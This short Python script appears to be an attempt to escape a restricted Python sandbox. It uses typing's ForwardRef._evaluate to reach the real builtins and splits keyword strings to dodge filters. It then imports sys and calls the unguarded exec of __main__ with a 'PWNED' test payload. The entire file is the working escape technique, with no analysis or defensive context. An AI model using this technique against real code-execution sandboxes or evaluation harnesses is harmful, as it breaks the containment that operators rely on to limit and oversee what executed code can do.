# misc: sys.modules['__main__'] is the program: its __builtins__ dict holds the guarded import and real exec
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]

s = rb["__imp" + "ort__"]("sy" + "s")
me = s.modules["__main__"]
bd = ga(me, "__buil" + "tins__")
try:
    bd["exec"]("print('PWN' + 'ED')")
except Exception as e:
    print("refused:", type(e).__name__, e)
